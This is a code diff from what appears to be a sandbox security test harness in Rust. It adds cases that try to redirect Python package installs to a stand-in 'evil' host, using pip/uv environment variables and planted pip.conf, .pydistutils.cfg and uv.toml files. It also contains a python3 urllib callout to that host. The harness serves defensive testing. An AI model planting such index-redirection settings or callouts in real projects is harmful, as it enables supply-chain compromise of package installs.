@@ -78,6 +78,53 @@ const ATTACKS: &[(&str, &str, &str)] = &[
     ),
 ];
 
+/// Attacks by what stands around the installer: variables that the caller names, and files that come with the call.
+const SURROUNDED: &[Surroundings] = &[
+    Surroundings {
+        id: "P12.variable",
+        variables: &["PIP_FIND_LINKS", "PIP_EXTRA_INDEX_URL", "UV_FIND_LINKS"],
+        files: &[],
+    },
+    Surroundings {
+        id: "P12.file",
+        variables: &[],
+        files: &[
+            ("pip.conf", "[global]\nfind-links = @EVIL@\n"),
+            (".config/pip/pip.conf", "[global]\nfind-links = @EVIL@\n"),
+            (".pydistutils.cfg", "[easy_install]\nfind_links = @EVIL@\n"),
+            ("uv.toml", "[pip]\nfind-links = [\"@EVIL@\"]\n"),
+        ],
+    },
+];
+
+/// What stands around one install.
+#[derive(Debug)]
+struct Surroundings {
+    id: &'static str,
+    /// Each is the place that tells of a visit.
+    variables: &'static [&'static str],
+    /// In the directory of the call; by name.
+    files: &'static [(&'static str, &'static str)],
+}
+
+impl Surroundings {
+    fn attack(&self) -> Attack {
+        let place = fill("@EVIL@", self.id);
+        let variables = self.variables.iter();
+        let variables = variables.map(|name| ((*name).to_owned(), place.clone().into()));
+        let files = self.files.iter();
+        let files = files.map(|(name, text)| json!({ "name": name, "text": fill(text, self.id) }));
+        Attack {
+            id: self.id,
+            modules: "innocent".to_owned(),
+            // So that one sees that it was installed and run, and nothing arrived.
+            code: format!("import innocent; print('@{} done')", self.id),
+            variables: Value::Object(variables.collect()),
+            files: files.collect(),
+        }
+    }
+}
+
 /// Plays them.
 pub(super) fn play(
     stage: &Stage<'_>,
@@ -92,15 +139,19 @@ pub(super) fn play(
         in_sandbox: matches!(side, Side::Sandbox(_)),
         ..Evidence::default()
     };
-    let attacks: Vec<Attack> = ATTACKS
+    let mut attacks: Vec<Attack> = ATTACKS
         .iter()
         .filter(|(id, ..)| ids.contains(id))
         .map(|(id, modules, code)| Attack {
             id,
             modules: fill(modules, id),
             code: fill(code, id),
+            variables: json!({}),
+            files: json!([]),
         })
         .collect();
+    let surrounded = SURROUNDED.iter().filter(|one| ids.contains(&one.id));
+    attacks.extend(surrounded.map(Surroundings::attack));
     match side {
         Side::Weak(weakness) => in_weak(stage, &world, weakness, &attacks, &mut evidence)?,
         Side::Sandbox(_) => {
@@ -139,14 +190,25 @@ struct Attack {
     id: &'static str,
     modules: String,
     code: String,
+    /// Variables of the environment, by name.
+    variables: Value,
+    /// Files, as a call has them.
+    files: Value,
 }
 
 fn in_sandbox(subject: &mut Subject, attack: &Attack, evidence: &mut Evidence) -> Result<()> {
-    let arguments = json!({
+    let mut arguments = json!({
         "code": attack.code,
         "modules": attack.modules,
         "timeout_seconds": TIME.as_secs(),
     });
+    if let Some(arguments) = arguments.as_object_mut() {
+        for (name, more) in [("environment", &attack.variables), ("files", &attack.files)] {
+            if *more != json!({}) && *more != json!([]) {
+                arguments.insert(name.to_owned(), more.clone());
+            }
+        }
+    }
     evidence.result = subject.call(&arguments, TIME + INSTALL_TIME)?;
     let printed = evidence.field("stdout").as_str().unwrap_or_default();
     let printed = printed.to_owned();
@@ -186,7 +248,16 @@ fn in_weak(
 ) -> Result<()> {
     let calls: Vec<_> = attacks
         .iter()
-        .map(|attack| [&attack.modules, &attack.code])
+        .map(|attack| {
+            let Attack {
+                modules,
+                code,
+                variables,
+                files,
+                ..
+            } = attack;
+            json!([modules, code, variables, files])
+        })
         .collect();
     let told = json!({ "attacks": calls, "public": PUBLIC });
     let program = Program::new(INSTALLER, &[], told)?;
@@ -205,6 +276,14 @@ fn fill(text: &str, id: &str) -> String {
     let visit =
         format!("python3 -c 'import urllib.request as u; u.urlopen(\"{evil}\", timeout=5)'");
     text.replace("@VISIT@", &visit).replace("@EVIL@", &evil)
+}
+
+/// By what arrived, if the call was served: one that was refused would say nothing.
+pub(super) fn arrival_in_a_run(evidence: &Evidence, case: &Case) -> Finding {
+    match (evidence.in_sandbox, evidence.answer(case.id)) {
+        (true, Some("done")) | (false, _) => judge::arrival(evidence, case),
+        (true, answer) => Finding::Unknown(format!("it did not run: {answer:?}")),
+    }
 }
 
 /// By whether the caller still waited for the install after its time.
